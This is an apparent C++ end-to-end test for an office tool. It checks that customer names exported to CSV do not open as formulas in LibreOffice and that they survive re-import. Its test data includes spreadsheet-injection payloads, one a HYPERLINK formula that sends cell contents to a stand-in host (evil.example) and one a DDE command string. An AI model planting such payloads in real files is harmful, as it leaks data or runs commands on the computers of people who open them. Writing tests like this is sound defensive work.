// What an agent writes must not act on the person who opens the office's files (issue 58): a
// customer an agent names =HYPERLINK(...) or -2+3 is exported by `customers export` and
// `export DIR`, the files are opened by a real spreadsheet (LibreOffice, headless, converting to
// flat ODS), and no cell is a formula; a file written without the mark, opened the same way,
// is one (so the check can fail). `customers import` of the export gives every name back.

#include "messages.h"
#include "server_process.h"

#include <catch2/catch.hpp>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include <sys/wait.h>

using nlohmann::json;
using namespace office::testing;

namespace {

const std::vector<std::string> kFormulas = {
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "+1+1", "-2+3",
    "'Brien",  // a name that really begins with '
};

std::string read_all(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    return std::string(std::istreambuf_iterator<char>(in), {});
}

// `csv` opened by LibreOffice (its own profile in `dir`) and saved as flat ODS: the XML text.
std::string as_libreoffice_reads(const std::string& csv, const std::string& dir) {
    const std::string command = "soffice -env:UserInstallation=file://" + dir + "/lo-profile --headless --convert-to fods --outdir " +
                                dir + " " + csv + " </dev/null >" + dir + "/soffice.log 2>&1";
    const int status = std::system(command.c_str());
    INFO(read_all(dir + "/soffice.log"));
    if (status != 0 || !WIFEXITED(status) || WEXITSTATUS(status) != 0)
        FAIL("LibreOffice could not open " + csv + " (apt-get install libreoffice-calc-nogui; ./test.sh installs it)");
    const auto fods = dir + "/" + std::filesystem::path(csv).stem().string() + ".fods";
    REQUIRE(std::filesystem::exists(fods));
    return read_all(fods);
}

}  // namespace

TEST_CASE("no cell of an export opens as a formula in LibreOffice, and customers import gives every name back", "[e2e][sqlite][cli][spreadsheet]") {
    TempDir dir;
    const auto db = dir.file("office.db");
    REQUIRE(run_office_mcp({"db", "init", "--empty", "--db", db}).status == 0);
    {
        ServerProcess agent({"--db", db});  // the agent's own tool, no admin right
        int id = 0;
        for (const auto& name : kFormulas) {
            const auto reply = agent.request(tools_call(++id, "add_customer", {{"name", name}, {"email", "c" + std::to_string(id) + "@example.com"}}));
            INFO(reply.dump());
            REQUIRE(reply["result"].value("isError", false) == false);
        }
    }
    const auto csv = dir.file("customers.csv");
    REQUIRE(run_office_mcp({"customers", "export", csv, "--db", db}).status == 0);
    REQUIRE(run_office_mcp({"export", dir.file("office-export"), "--db", db}).status == 0);

    // The control: the same names written as they are, which LibreOffice does run.
    const auto raw = dir.file("unmarked.csv");
    {
        std::ofstream out(raw, std::ios::binary);
        out << "id,name\r\n1,=1+1\r\n";
    }
    CHECK(as_libreoffice_reads(raw, dir.path()).find("table:formula=") != std::string::npos);

    for (const auto& file : {csv, dir.file("office-export") + "/customers.csv"}) {
        INFO(file);
        const std::string sheet = as_libreoffice_reads(file, dir.path());
        CHECK(sheet.find("table:formula=") == std::string::npos);
        CHECK(sheet.find("HYPERLINK") != std::string::npos);  // there, as text
    }

    // Back into a new office: every name as the agent wrote it.
    const auto copy = dir.file("copy.db");
    REQUIRE(run_office_mcp({"db", "init", "--empty", "--db", copy}).status == 0);
    const auto imported = run_office_mcp({"customers", "import", csv, "--db", copy});
    INFO(imported.err);
    REQUIRE(imported.status == 0);
    CHECK(run_office_mcp({"customers", "export", "--db", copy}).out == read_all(csv));
    const auto listed = run_office_mcp({"customers", "list", "--db", copy});
    for (const auto& name : kFormulas) CHECK(listed.out.find("  " + name + "  ") != std::string::npos);
}
